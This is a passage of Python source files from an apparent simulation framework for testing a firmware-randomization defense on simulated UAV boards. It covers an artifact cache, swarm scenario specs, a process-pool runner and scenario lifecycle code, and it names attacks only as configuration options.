digest over the canonical JSON of the producing configuration (app,
toolchain, vulnerability flag, defense backend, board seed, …) plus a
format version, and the value lives in one file under a shared cache
root.

Three artifact kinds ride the same store:

* ``build``    — the built :class:`~repro.binfmt.image.FirmwareImage`
  (pickled), so a fresh pool worker skips the linker,
* ``deploy``   — the external-flash blob exactly as the master stored it
  (preprocessed binary + symbols + relocation index), so a worker skips
  the preprocess pass and the HEX round-trip,
* ``board``    — a booted-board snapshot (see
  :meth:`repro.core.mavr.MavrSystem.capture_snapshot`), so a worker
  skips the simulated ISP programming and boot entirely.

Design constraints, in order:

* **Determinism first.**  The cache changes *host* time only.  Every
  JSONL byte a campaign emits is identical with the cache disabled,
  cold, or warm — proven by test and asserted by the throughput bench.
* **Concurrent writers.**  Pool workers share the root; writes go to a
  temp file in the same directory followed by :func:`os.replace`, so a
  reader never observes a torn artifact and the last writer wins with
  byte-identical content.
* **Bounded memory.**  The per-process memo over disk hits is an LRU
  (:data:`MEMO_LIMIT` entries); the disk store is bounded only by the
  root the caller owns (campaign runs typically point it at a temp dir).
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import tempfile
from collections import OrderedDict
from pathlib import Path
from typing import Dict, Optional, Union

#: bump when any cached artifact's format or producing code changes in a
#: way that invalidates old entries (keys embed this, so stale files are
#: simply never addressed again)
CACHE_VERSION = 1

#: per-process memo entries kept per cache root (an LRU over disk hits)
MEMO_LIMIT = 64


def artifact_key(kind: str, **fields) -> str:
    """Content-addressed key: ``kind-<blake2b of canonical fields>``.

    ``fields`` must be JSON-serializable builtins; the digest covers the
    sorted canonical encoding plus :data:`CACHE_VERSION`, so any change
    to the producing configuration (or the format) addresses a different
    artifact.
    """
    canonical = json.dumps(
        {"kind": kind, "cache_version": CACHE_VERSION, **fields},
        sort_keys=True,
        separators=(",", ":"),
    )
    digest = hashlib.blake2b(
        canonical.encode("utf-8"), digest_size=16
    ).hexdigest()
    return f"{kind}-{digest}"


class ArtifactCache:
    """Disk-backed content-addressed store shared across pool workers."""

    def __init__(self, root) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        # hit/miss/store counts by artifact kind (the key prefix); the
        # warm-path tests and the throughput bench read these
        self.hits: Dict[str, int] = {}
        self.misses: Dict[str, int] = {}
        self.stores: Dict[str, int] = {}
        self._memo: "OrderedDict[str, object]" = OrderedDict()

    # -- accounting -------------------------------------------------------

    @staticmethod
    def _kind(key: str) -> str:
        return key.split("-", 1)[0]

    def _count(self, table: Dict[str, int], key: str) -> None:
        kind = self._kind(key)
        table[kind] = table.get(kind, 0) + 1

    def counts(self) -> dict:
        """JSON-ready accounting snapshot (diagnostics only)."""
        return {
            "hits": dict(self.hits),
            "misses": dict(self.misses),
            "stores": dict(self.stores),
        }

    # -- raw bytes --------------------------------------------------------

    def path_for(self, key: str) -> Path:
        return self.root / key

    def get_bytes(self, key: str) -> Optional[bytes]:
        try:
            data = self.path_for(key).read_bytes()
        except OSError:
            self._count(self.misses, key)
            return None
        self._count(self.hits, key)
        return data

    def put_bytes(self, key: str, data: bytes) -> None:
        """Atomic publish: a concurrent reader sees all of it or nothing."""
        handle = tempfile.NamedTemporaryFile(
            dir=self.root, prefix=f".{key}.", delete=False
        )
        try:
            with handle:
                handle.write(data)
            os.replace(handle.name, self.path_for(key))
        except BaseException:
            try:
                os.unlink(handle.name)
            except OSError:
                pass
            raise
        self._count(self.stores, key)

    # -- text -------------------------------------------------------------

    def get_text(self, key: str) -> Optional[str]:
        data = self.get_bytes(key)
        return None if data is None else data.decode("utf-8")

    def put_text(self, key: str, text: str) -> None:
        self.put_bytes(key, text.encode("utf-8"))

    # -- pickled objects (memoized per process) ---------------------------

    def get_object(self, key: str) -> Optional[object]:
        """Unpickle an artifact, memoizing per process.

        The memo returns the *same object* to every caller in a process,
        mirroring how the in-process build cache already shares images;
        cached objects are treated as immutable by convention (the one
        sanctioned exception — lazily attaching a relocation index —
        is deterministic in content).
        """
        memo = self._memo
        if key in memo:
            memo.move_to_end(key)
            self._count(self.hits, key)
            return memo[key]
        data = self.get_bytes(key)
        if data is None:
            return None
        try:
            value = pickle.loads(data)
        except Exception:
            return None  # torn/foreign file: treat as a miss
        memo[key] = value
        while len(memo) > MEMO_LIMIT:
            memo.popitem(last=False)
        return value

    def put_object(self, key: str, value: object) -> None:
        self.put_bytes(key, pickle.dumps(value, protocol=pickle.HIGHEST_PROTOCOL))
        self._memo[key] = value
        self._memo.move_to_end(key)
        while len(self._memo) > MEMO_LIMIT:
            self._memo.popitem(last=False)


_CACHES: Dict[str, ArtifactCache] = {}


def get_cache(root: Union[str, Path, ArtifactCache, None]) -> Optional[ArtifactCache]:
    """Per-process :class:`ArtifactCache` singleton for ``root``.

    Campaign workers receive the cache root as a string in their payload
    and resolve it here, so every scenario in a worker shares one memo.
    ``None`` (caching disabled) and ready-made caches pass through.
    """
    if root is None or isinstance(root, ArtifactCache):
        return root
    resolved = str(Path(root).resolve())
    cache = _CACHES.get(resolved)
    if cache is None:
        cache = _CACHES[resolved] = ArtifactCache(resolved)
    return cache
