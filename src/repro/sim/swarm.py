"""Swarm scenarios: one ground station, N boards, one MAVLink channel.

A :class:`SwarmSpec` is the fleet analogue of a
:class:`~repro.sim.scenario.ScenarioSpec`: frozen, picklable, and a pure
function of its fields, so swarm campaigns inherit the whole campaign
fast path — process fan-out, artifact cache, warm board forks,
checkpoint shards — without new runner code.  Each fleet member is
expanded to a derived single-board spec (:meth:`SwarmSpec.board_spec`)
whose seed comes from :func:`~repro.sim.scenario.derive_seed`, so board
i's firmware build, deploy blob and booted-board snapshot are shared
with every other campaign run that flies the same configuration.

The engagement itself is a
:class:`~repro.mavlink.attacks.ProtocolSession`: deterministic
interleaved scheduling of benign traffic, the (optional) protocol
attacker, and the per-tick flight of every board, with one
:class:`~repro.uav.groundstation.GcsAnomalyDetector` tapping the shared
channel.  A benign swarm (``attack=None``) measures the detector's false
alarms; an attacked swarm scores one protocol attack kind against the
fleet.  Results come back as ordinary
:class:`~repro.sim.scenario.ScenarioResult` objects (with ``detector``
and ``swarm`` extensions), so JSONL records stay byte-identical between
serial and parallel runs.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Optional

from ..attack.registry import PROTOCOL_LAYER, attack_kind
from ..avr.engine import DEFAULT_ENGINE
from ..core.defenses import DEFENSE_BACKENDS
from ..telemetry import Telemetry, jsonable
from .artifacts import ArtifactCache, get_cache
from .scenario import (
    PhaseRecorder,
    ScenarioResult,
    ScenarioSpec,
    _boot_with_phases,
    _build_board,
    _classify,
    derive_seed,
    load_spec_image,
)

#: per-board seed stream name (derive_seed third argument)
SWARM_BOARD_STREAM = "swarm-board"


@dataclass(frozen=True)
class SwarmSpec:
    """One fleet experiment, as data.

    ``attack`` names a protocol-layer registry kind (or ``None`` for a
    benign fleet — the detector false-alarm baseline); memory-tier kinds
    target a single board's firmware and belong in a plain
    :class:`ScenarioSpec`.
    """

    # -- firmware / board configuration (shared by the whole fleet) -------
    app: str = "testapp"
    toolchain: str = "mavr"
    vulnerable: bool = True
    protected: bool = True
    defense: str = "mavr"
    engine: str = DEFAULT_ENGINE
    seed: int = 1                    # fleet seed; boards derive from it

    # -- fleet ------------------------------------------------------------
    boards: int = 3
    attack: Optional[str] = None     # protocol-layer attack kind, or None
    attack_seed: int = 0
    attack_board: int = 0            # which member the attacker targets

    # -- budget -----------------------------------------------------------
    warmup_ticks: int = 10
    observe_ticks: int = 60
    watch_every: int = 5
    label: str = ""
    # test-only worker-crash marker (see ScenarioSpec.worker_fault_marker)
    worker_fault_marker: Optional[str] = None

    def __post_init__(self) -> None:
        if self.boards < 1:
            raise ValueError("a swarm needs at least one board")
        if not 0 <= self.attack_board < self.boards:
            raise ValueError(
                f"attack_board {self.attack_board} out of range for "
                f"{self.boards} boards"
            )
        if self.defense not in DEFENSE_BACKENDS:
            raise ValueError(
                f"unknown defense backend {self.defense!r}; "
                f"expected one of {DEFENSE_BACKENDS}"
            )
        if self.attack is not None:
            kind = attack_kind(self.attack)  # raises on an unknown name
            if kind.layer != PROTOCOL_LAYER:
                raise ValueError(
                    f"attack kind {self.attack!r} is {kind.layer}-layer; "
                    "swarm scenarios play protocol-layer kinds only"
                )

    def board_spec(self, index: int) -> ScenarioSpec:
        """The derived single-board spec for fleet member ``index``.

        ``attack=None``: the protocol attacker never touches the
        firmware, so each member's board is exactly the clean scenario
        board — which is what lets the warm-fork snapshot and deploy
        artifacts be shared with non-swarm campaigns.
        """
        return ScenarioSpec(
            app=self.app,
            toolchain=self.toolchain,
            vulnerable=self.vulnerable,
            protected=self.protected,
            defense=self.defense,
            engine=self.engine,
            seed=derive_seed(self.seed, index, SWARM_BOARD_STREAM),
            warmup_ticks=self.warmup_ticks,
            observe_ticks=self.observe_ticks,
            watch_every=self.watch_every,
            label=f"{self.label}/b{index}" if self.label else f"b{index}",
        )

    def to_record(self) -> dict:
        """JSON-ready spec for campaign records and checkpoint digests."""
        record = jsonable(self)
        record.pop("worker_fault_marker", None)
        return record


def run_swarm_scenario(
    spec: SwarmSpec,
    index: int = 0,
    telemetry: Optional[Telemetry] = None,
    cache: Optional[ArtifactCache] = None,
) -> ScenarioResult:
    """Play one swarm spec end to end: boot the fleet, warm up, engage.

    Per-board lifecycle (build → preprocess → program/boot → warmup)
    reuses the single-board helpers, so phase accounting, artifact
    caching and warm-fork eligibility behave identically; the observe
    window is one shared :class:`ProtocolSession` driving every board
    tick-by-tick in deterministic interleaved order.
    """
    from ..mavlink.attacks import run_benign_session, run_protocol_attack

    cache = get_cache(cache)
    host = time.perf_counter
    phases = PhaseRecorder()
    session_telemetry = (
        telemetry if telemetry is not None else Telemetry(enabled=False)
    )

    boards = []
    overhead_ms = 0.0
    for member in range(spec.boards):
        sub = spec.board_spec(member)
        start = host()
        load_spec_image(sub, cache)
        phases.record("build", host() - start)
        start = host()
        # each board gets its own (disabled) Telemetry handle; the swarm
        # session's gcs.anomaly events go to the caller's handle instead
        board, _base = _build_board(sub, None, cache)
        phases.record("preprocess", host() - start)
        overhead_ms += _boot_with_phases(sub, board, phases, cache, None)
        boards.append(board)

    def fleet_cycles() -> int:
        return sum(
            b.autopilot.cpu.cycles_lifetime + b.autopilot.cpu.cycles
            for b in boards
        )

    ms_per_cycle = 1000.0 / boards[0].autopilot.cpu.clock_hz
    cycles = fleet_cycles()
    start = host()
    for board in boards:
        board.run(spec.warmup_ticks)
    phases.record(
        "warmup", host() - start, (fleet_cycles() - cycles) * ms_per_cycle
    )

    cycles = fleet_cycles()
    start = host()
    if spec.attack is not None:
        kind = attack_kind(spec.attack)
        outcome = run_protocol_attack(
            spec, boards, kind.name, kind.expected_anomalies,
            telemetry=session_telemetry,
        )
        phases.record(
            "attack", host() - start,
            (fleet_cycles() - cycles) * ms_per_cycle,
        )
    else:
        outcome = run_benign_session(
            spec, boards, telemetry=session_telemetry
        )
        phases.record(
            "run", host() - start, (fleet_cycles() - cycles) * ms_per_cycle
        )

    status = outcome.statuses[spec.attack_board]
    effect = outcome.effect
    detected = outcome.detected
    stealthy = (
        effect and status == "running"
        and not detected and not outcome.link_lost
    )
    reports = [board.report() for board in boards]
    result = ScenarioResult(
        index=index,
        spec=spec,
        outcome=_classify(
            spec, effect=effect, detected=detected, stealthy=stealthy,
            status=status,
        ),
        effect=effect,
        detected=detected,
        stealthy=stealthy,
        succeeded=effect,
        status=status,
        delivered_bytes=outcome.attack_bytes,
        link_lost=outcome.link_lost,
        telemetry_frames_after=outcome.telemetry_frames,
        boots=sum(r.boots for r in reports if r),
        randomizations=sum(r.randomizations for r in reports if r),
        attacks_detected=sum(r.attacks_detected for r in reports if r),
        startup_overhead_ms=overhead_ms,
        detector=outcome.record(),
        swarm={
            "boards": spec.boards,
            "statuses": list(outcome.statuses),
            "benign_frames": outcome.benign_frames,
        },
    )
    result.phases = phases.snapshot()
    phases.emit_spans(session_telemetry)
    if session_telemetry.enabled:
        result.events = session_telemetry.events.events()
        result.snapshot = session_telemetry.snapshot()
    return result
