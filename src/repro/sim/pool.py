"""Deterministic indexed fan-out over a process pool.

:func:`map_indexed` is the one parallel primitive the repo uses: it runs
``worker(payload)`` for every payload and returns results *in payload
order* regardless of completion order.  Failure semantics:

* **worker death** (a process killed mid-task — ``os._exit``, OOM,
  signal) breaks the whole pool; the unfinished payloads are retried
  exactly once in a fresh pool, and a second death yields a
  :class:`PoolTaskError` placeholder so the caller still gets a full,
  ordered result list (partial-result reporting).
* **worker exception** (the task raised) is *not* retried — the task is
  deterministic, so it would raise again — and also yields a
  :class:`PoolTaskError`.
* **per-task timeout** is enforced inside the worker via ``SIGALRM``
  (the task is CPU-bound Python; only the worker can interrupt itself),
  surfacing as an ordinary timeout exception.

With ``jobs <= 1`` everything runs inline in the calling process — same
code path, no pool, no signals — which is what makes the serial and
parallel campaign paths trivially comparable.
"""

from __future__ import annotations

import math
import os
import signal
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass
from typing import Callable, List, Optional, Sequence

#: set by the pool initializer in worker processes; lets payload-level
#: fault injection (and anything else that must never run in the parent)
#: detect where it is executing
_IN_WORKER = False


def in_worker() -> bool:
    return _IN_WORKER


def _init_worker() -> None:
    global _IN_WORKER
    _IN_WORKER = True


@dataclass
class PoolTaskError:
    """Placeholder result for a payload that could not produce one."""

    index: int
    kind: str       # "worker_death" | "exception" | "timeout"
    message: str
    retried: bool = False


class _TaskTimeout(Exception):
    pass


def _alarm_handler(_signum, _frame):
    raise _TaskTimeout("per-task timeout expired")


def call_with_timeout(fn: Callable, payload, timeout_s: Optional[float]):
    """Run ``fn(payload)``, bounded by ``SIGALRM`` when in a worker.

    The parent process never arms the alarm (pytest and interactive
    sessions own their signal handlers); serial runs are unbounded.
    """
    if not _IN_WORKER or not timeout_s:
        return fn(payload)
    previous = signal.signal(signal.SIGALRM, _alarm_handler)
    signal.alarm(max(1, math.ceil(timeout_s)))
    try:
        return fn(payload)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def map_indexed(
    worker: Callable,
    payloads: Sequence,
    jobs: int = 1,
    retry_worker_death: bool = True,
    on_result: Optional[Callable[[int, object], None]] = None,
) -> List[object]:
    """Ordered fan-out; every slot is a result or a :class:`PoolTaskError`.

    ``worker`` must be a module-level callable (picklable by reference)
    taking one payload.  Results come back in payload order.

    ``on_result(index, result)`` is invoked in the *parent* process as
    each payload's final result lands (progress reporting).  Worker-death
    placeholders that will be retried are not reported until the retry
    resolves, so every index is reported exactly once.  The callback is
    observational only — it must not mutate the result.
    """
    payloads = list(payloads)
    if jobs <= 1 or len(payloads) <= 1:
        results = []
        for index, payload in enumerate(payloads):
            result = _run_inline(worker, payload, index)
            results.append(result)
            if on_result is not None:
                on_result(index, result)
        return results

    results: List[object] = [None] * len(payloads)
    pending = _run_pool(
        worker, payloads, range(len(payloads)), jobs, results,
        on_result=on_result, defer_dead=True,
    )
    if pending and retry_worker_death:
        # one fresh pool, one retry per dead task
        still_dead = _run_pool(
            worker, payloads, pending, jobs, results, defer_dead=True
        )
        for index in still_dead:
            error = results[index]
            if isinstance(error, PoolTaskError):
                error.retried = True
        if on_result is not None:
            for index in pending:
                on_result(index, results[index])
    elif pending and on_result is not None:
        # retries disabled: the deaths are final, report them now
        for index in pending:
            on_result(index, results[index])
    return results


def _run_inline(worker: Callable, payload, index: int):
    try:
        return worker(payload)
    except Exception as exc:  # deterministic task: do not retry
        return PoolTaskError(index=index, kind="exception", message=repr(exc))


def _run_pool(
    worker: Callable,
    payloads: Sequence,
    indices,
    jobs: int,
    results: List[object],
    on_result: Optional[Callable[[int, object], None]] = None,
    defer_dead: bool = False,
) -> List[int]:
    """Run the given payload indices; fill ``results``; return the indices
    whose worker died (candidates for retry).  ``on_result`` fires per
    finished index; dead indices are skipped when ``defer_dead`` (the
    caller will report them after the retry pass)."""
    dead: List[int] = []
    executor = ProcessPoolExecutor(
        max_workers=min(jobs, max(len(list(indices)), 1)),
        initializer=_init_worker,
    )
    try:
        futures = {
            index: executor.submit(worker, payloads[index]) for index in indices
        }
        for index, future in futures.items():
            died = False
            try:
                results[index] = future.result()
            except BrokenProcessPool:
                results[index] = PoolTaskError(
                    index=index, kind="worker_death",
                    message="worker process died before returning a result",
                )
                dead.append(index)
                died = True
            except Exception as exc:
                results[index] = PoolTaskError(
                    index=index, kind="exception", message=repr(exc)
                )
            if on_result is not None and not (died and defer_dead):
                on_result(index, results[index])
    finally:
        executor.shutdown(wait=False, cancel_futures=True)
    return dead
