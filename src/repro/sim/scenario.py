"""Declarative board scenarios: spec -> lifecycle -> structured result.

A :class:`ScenarioSpec` describes one complete experiment — which
application, which execution engine, protected or not, which attack
variant with which parameters, and the tick/step budget.  It is a frozen
dataclass of plain builtins, so it pickles across process boundaries and
serializes into campaign JSONL records verbatim.

:class:`Board` owns construction: it is the only place in the codebase
that wires an :class:`~repro.uav.autopilot.Autopilot` or
:class:`~repro.core.mavr.MavrSystem` together with a
:class:`~repro.telemetry.Telemetry` handle from a spec.  Higher layers
(analysis campaigns, the CLI, integration fixtures, benchmarks) never
call those constructors directly.

:func:`run_scenario` plays a spec end to end and returns a
:class:`ScenarioResult` whose fields are deterministic functions of the
spec — no wall-clock time, no process identity — which is what makes
serial and parallel campaign runs bit-identical.
"""

from __future__ import annotations

import hashlib
import time
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..attack.registry import attack_kind, attack_names
from ..avr.engine import DEFAULT_ENGINE
from ..avr.profile import PROFILE_MODES
from ..binfmt.image import FirmwareImage
from ..core.defenses import DEFENSE_BACKENDS
from ..telemetry import Telemetry, jsonable
from .artifacts import ArtifactCache, artifact_key, get_cache

#: attack kinds a spec may name (``None`` = fly clean); derived from the
#: attack registry, whose registration order defines CLI choice order
ATTACK_VARIANTS = attack_names()

_SEED_SPACE = 2**31


def derive_seed(base_seed: int, index: int, stream: str = "") -> int:
    """Deterministic per-spec seed: stable across processes and sessions.

    Python's builtin ``hash`` is randomized per interpreter, so campaign
    workers derive sub-seeds with BLAKE2b over ``(base_seed, index,
    stream)`` instead.  The same arguments always yield the same seed,
    which is the foundation of the serial-vs-parallel determinism
    contract.
    """
    digest = hashlib.blake2b(
        f"{base_seed}:{index}:{stream}".encode("ascii"), digest_size=8
    ).digest()
    return int.from_bytes(digest, "big") % _SEED_SPACE


@dataclass(frozen=True)
class ScenarioSpec:
    """One experiment, as data.

    The app is named (rebuilt from the deterministic manifest cache in
    each worker process) or carried inline as preprocessed HEX
    (``image_hex``, for images that exist only in the parent — e.g. a
    test fixture).  Everything else is an override over the defaults the
    hand-wired drivers used to repeat.
    """

    # -- firmware ---------------------------------------------------------
    app: str = "testapp"
    toolchain: str = "mavr"
    vulnerable: bool = True
    image_hex: Optional[str] = None  # overrides the named build when given

    # -- board ------------------------------------------------------------
    protected: bool = True           # defended system vs bare autopilot
    defense: str = "mavr"            # backend name (DEFENSE_BACKENDS)
    engine: str = DEFAULT_ENGINE
    seed: int = 1                    # board-side randomization seed
    randomize_every_boots: int = 1   # RandomizationPolicy override
    watchdog_period_cycles: int = 100_000
    watchdog_missed_periods: int = 4
    link_baud: Optional[int] = None  # ProgrammingLink override

    # -- attack -----------------------------------------------------------
    attack: Optional[str] = None     # one of ATTACK_VARIANTS, or None
    attack_seed: int = 0             # layout seed for guess/oracle attackers
    target_variable: str = "gyro_offset"
    values: bytes = b"\x40\x00\x00"

    # -- budget -----------------------------------------------------------
    warmup_ticks: int = 10
    observe_ticks: int = 150
    watch_every: int = 5

    # -- faults and observability ----------------------------------------
    fault: Optional[str] = None      # "wild_jump" | "silence"
    telemetry: bool = False
    profile: Optional[str] = None    # PC profiler mode, or None (off)
    flight_recorder: bool = False    # ring-buffer forensics on the core
    label: str = ""
    # test-only: path of a marker file; a campaign *worker* seeing no
    # marker creates it and dies hard (simulating a worker crash), the
    # retry sees the marker and proceeds.  Ignored outside worker
    # processes so serial runs stay safe.
    worker_fault_marker: Optional[str] = None

    def __post_init__(self) -> None:
        if self.defense not in DEFENSE_BACKENDS:
            raise ValueError(
                f"unknown defense backend {self.defense!r}; "
                f"expected one of {DEFENSE_BACKENDS}"
            )
        if self.attack is not None:
            kind = attack_kind(self.attack)  # raises on an unknown name
            if kind.validate is not None:
                kind.validate(self)
        if self.fault not in (None, "wild_jump", "silence"):
            raise ValueError(f"unknown fault {self.fault!r}")
        if self.profile is not None and self.profile not in PROFILE_MODES:
            raise ValueError(
                f"unknown profile mode {self.profile!r}; "
                f"expected one of {PROFILE_MODES}"
            )

    def to_record(self) -> dict:
        """JSON-ready spec (bytes become hex via the shared serializer)."""
        record = jsonable(self)
        record.pop("image_hex", None)  # bulky and binary-equivalent to app
        record.pop("worker_fault_marker", None)
        return record


#: inline-image decode cache: bounded, content-keyed LRU.  The key is the
#: BLAKE2b digest of the preprocessed HEX payload itself, so two specs
#: carrying byte-identical firmware share one decode and a long-lived
#: serve-mode process can never grow it past the bound.
_IMAGE_CACHE: "OrderedDict[str, FirmwareImage]" = OrderedDict()
_IMAGE_CACHE_LIMIT = 16


def _cached_inline_image(image_hex: str) -> FirmwareImage:
    key = hashlib.blake2b(
        image_hex.encode("ascii"), digest_size=16
    ).hexdigest()
    image = _IMAGE_CACHE.get(key)
    if image is None:
        image = _IMAGE_CACHE[key] = FirmwareImage.from_preprocessed_hex(
            image_hex
        )
    else:
        _IMAGE_CACHE.move_to_end(key)
    while len(_IMAGE_CACHE) > _IMAGE_CACHE_LIMIT:
        _IMAGE_CACHE.popitem(last=False)
    return image


def load_spec_image(
    spec: ScenarioSpec, cache: Optional[ArtifactCache] = None
) -> FirmwareImage:
    """Resolve the spec's firmware image (cached per process).

    Named apps go through :func:`repro.firmware.build_app`'s own cache;
    inline images are decoded from the preprocessed HEX once per distinct
    payload (bounded LRU).  With an artifact ``cache`` the built image is
    also shared *across* processes — a fresh pool worker unpickles the
    build artifact instead of paying the toolchain.  Serial and parallel
    campaign paths both resolve through here, so every run sees
    byte-identical firmware.
    """
    if spec.image_hex is not None:
        return _cached_inline_image(spec.image_hex)
    if cache is not None:
        key = _build_key(spec)
        image = cache.get_object(key)
        if image is not None:
            return image
    from ..asm.linker import MAVR_OPTIONS, STOCK_OPTIONS
    from ..firmware import build_app, manifest_by_name

    options = {"stock": STOCK_OPTIONS, "mavr": MAVR_OPTIONS}[spec.toolchain]
    image = build_app(
        manifest_by_name(spec.app), options, vulnerable=spec.vulnerable
    )
    if cache is not None:
        cache.put_object(_build_key(spec), image)
    return image


# -- artifact-cache keys -----------------------------------------------------

def _firmware_fields(spec: ScenarioSpec) -> dict:
    """The spec fields that determine the built firmware bytes."""
    fields = {
        "app": spec.app,
        "toolchain": spec.toolchain,
        "vulnerable": spec.vulnerable,
    }
    if spec.image_hex is not None:
        fields["image_hex"] = hashlib.blake2b(
            spec.image_hex.encode("ascii"), digest_size=16
        ).hexdigest()
    return fields


def _build_key(spec: ScenarioSpec) -> str:
    return artifact_key("build", **_firmware_fields(spec))


def _deploy_key(spec: ScenarioSpec) -> str:
    """Key of the external-flash blob (firmware x defense backend)."""
    return artifact_key(
        "deploy", defense=spec.defense, **_firmware_fields(spec)
    )


def _board_key(spec: ScenarioSpec) -> str:
    """Key of the booted-board snapshot: every field that shapes the
    post-boot state (the attack/budget/observability fields do not)."""
    from ..core.mavr import SNAPSHOT_VERSION

    return artifact_key(
        "board",
        snapshot_version=SNAPSHOT_VERSION,
        defense=spec.defense,
        engine=spec.engine,
        seed=spec.seed,
        randomize_every_boots=spec.randomize_every_boots,
        watchdog_period_cycles=spec.watchdog_period_cycles,
        watchdog_missed_periods=spec.watchdog_missed_periods,
        link_baud=spec.link_baud,
        **_firmware_fields(spec),
    )


def _snapshot_eligible(spec: ScenarioSpec, telemetry: Optional[Telemetry]) -> bool:
    """May this scenario restore (or capture) a booted-board snapshot?

    Only protected boards without observers: telemetry, the profiler and
    the flight recorder all accumulate state from the programming/boot
    phases that a restore would have to fabricate, so those specs always
    take the cold path.  Everything else — attack variant, fault
    injection, tick budgets — happens after the snapshot point.
    """
    return (
        spec.protected
        and not spec.telemetry
        and (telemetry is None or not telemetry.enabled)
        and spec.profile is None
        and not spec.flight_recorder
    )


#: lifecycle phases, in execution order — the keys of every phase breakdown
PHASE_ORDER = (
    "build", "preprocess", "program", "boot", "warmup", "attack", "run"
)


class PhaseRecorder:
    """Dual-clock attribution of one scenario's lifecycle phases.

    ``host_ms`` is wall time the worker actually paid (nondeterministic:
    it depends on the machine and the process mix, so it never enters a
    JSONL record field that must be byte-identical across runners);
    ``sim_ms`` is simulated time (deterministic: cycle counts and the ISP
    timing model are pure functions of the spec).  Aggregated across a
    campaign this is the measurement that says *which* phase swamps the
    workers — the attribution the parallel-speedup work is blocked on.
    """

    def __init__(self) -> None:
        self.phases: Dict[str, List[float]] = {}  # name -> [host_s, sim_ms]

    def record(self, name: str, host_s: float, sim_ms: float = 0.0) -> None:
        cell = self.phases.get(name)
        if cell is None:
            self.phases[name] = [host_s, sim_ms]
        else:
            cell[0] += host_s
            cell[1] += sim_ms

    def snapshot(self) -> Dict[str, Dict[str, float]]:
        """JSON-ready breakdown in :data:`PHASE_ORDER` order."""
        out: Dict[str, Dict[str, float]] = {}
        for name in PHASE_ORDER:
            cell = self.phases.get(name)
            if cell is None:
                continue
            out[name] = {
                "host_ms": round(cell[0] * 1000.0, 3),
                "sim_ms": round(cell[1], 6),
            }
        return out

    def emit_spans(self, telemetry: Telemetry) -> None:
        """Publish the breakdown as ``scenario.phase`` marker spans.

        The measured values ride as span attrs (the span's own duration
        is ~0 — the phases were timed externally), so they travel through
        ``Telemetry.merge`` back to the campaign parent like any other
        worker span.
        """
        if not telemetry.enabled:
            return
        for name, cell in self.snapshot().items():
            with telemetry.span(
                "scenario.phase", phase=name,
                host_ms=cell["host_ms"], sim_ms=cell["sim_ms"],
            ):
                pass


class Board:
    """Lifecycle object owning one simulated board built from a spec.

    For a protected spec this wires ``Autopilot`` + ``MasterProcessor``
    inside a :class:`~repro.core.mavr.MavrSystem` with the spec's policy,
    watchdog and link overrides; for an unprotected spec it is a bare
    ``Autopilot``.  Either way there is exactly one ``Telemetry`` handle,
    created here (or passed in by a caller who wants the JSONL sink open
    before boot).
    """

    def __init__(
        self,
        spec: ScenarioSpec,
        telemetry: Optional[Telemetry] = None,
        image: Optional[FirmwareImage] = None,
        cache: Optional[ArtifactCache] = None,
    ) -> None:
        from ..core import MavrSystem, RandomizationPolicy, WatchdogConfig
        from ..hw.serialbus import PROTOTYPE_LINK, ProgrammingLink
        from ..uav.autopilot import Autopilot

        self.spec = spec
        if image is not None:
            cache = None  # a caller-transformed image is never cacheable
        self.image = image if image is not None else load_spec_image(spec, cache)
        self.telemetry = (
            telemetry if telemetry is not None else Telemetry(enabled=spec.telemetry)
        )
        # how the board was provisioned: "cold" (full preprocess+deploy),
        # "cached" (deploy blob from the artifact cache), or "warm"
        # (booted-board snapshot restore); diagnostics only
        self.provisioned = "cold"
        # the restored snapshot's replay data (phase sim_ms + overhead),
        # or None when the board still needs a cold boot
        self.restored: Optional[dict] = None
        if spec.protected:
            link = (
                ProgrammingLink(baud=spec.link_baud)
                if spec.link_baud is not None else PROTOTYPE_LINK
            )
            policy = RandomizationPolicy(spec.randomize_every_boots)
            watchdog = WatchdogConfig(
                expected_period_cycles=spec.watchdog_period_cycles,
                missed_periods_threshold=spec.watchdog_missed_periods,
            )
            snapshot = None
            deploy_blob = None
            if cache is not None and _snapshot_eligible(spec, telemetry):
                snapshot = cache.get_object(_board_key(spec))
            if snapshot is not None:
                self.system: Optional[MavrSystem] = MavrSystem.from_snapshot(
                    snapshot,
                    self.image,
                    policy=policy,
                    link=link,
                    watchdog=watchdog,
                    telemetry=self.telemetry,
                    engine=spec.engine,
                    defense=spec.defense,
                )
                self.provisioned = "warm"
                self.restored = {
                    "overhead_ms": snapshot["overhead_ms"],
                    "program_sim_ms": snapshot["program_sim_ms"],
                    "boot_sim_ms": snapshot["boot_sim_ms"],
                }
            else:
                if cache is not None:
                    deploy_blob = cache.get_bytes(_deploy_key(spec))
                    if deploy_blob is not None:
                        self.provisioned = "cached"
                self.system = MavrSystem(
                    self.image,
                    policy=policy,
                    link=link,
                    watchdog=watchdog,
                    seed=spec.seed,
                    telemetry=self.telemetry,
                    engine=spec.engine,
                    defense=spec.defense,
                    deploy_blob=deploy_blob,
                )
                if cache is not None and deploy_blob is None:
                    # publish the chip contents for the next worker; the
                    # blob is exactly what deploy() stored, fallback
                    # decisions included
                    cache.put_bytes(
                        _deploy_key(spec),
                        self.system.master.external_flash.read_all(),
                    )
            if cache is not None:
                self._ensure_base_reloc_index()
            self.autopilot = self.system.autopilot
        else:
            self.system = None
            self.autopilot = Autopilot(self.image, engine=spec.engine)
        self.profiler = None
        self.recorder = None

    def _ensure_base_reloc_index(self) -> None:
        """Keep the attacker-side randomize fast path armed off-preprocess.

        On the cold path ``defense.preprocess`` attaches the relocation
        index to the shared base image as a side effect; the cached and
        warm paths skip preprocess, so the guessing/oracle attackers
        (which randomize their own copy of the public binary) would fall
        back to the slow patcher.  Attach it here instead — identical
        content, built once per process per image.
        """
        if (
            self.image.reloc_index is None
            and self.spec.toolchain == "mavr"
            and self.system is not None
            and self.system.defense.requires_randomizable
        ):
            from ..binfmt.relocindex import build_relocation_index

            self.image.reloc_index = build_relocation_index(self.image)

    # -- lifecycle --------------------------------------------------------

    def attach_observers(self) -> None:
        """Attach the spec's profiler / flight recorder to the live core.

        Called after the first boot so function attribution uses the
        *running* (possibly randomized) layout's symbols.  The hooks live
        on the CPU object, which persists across reflashes — but a mid-run
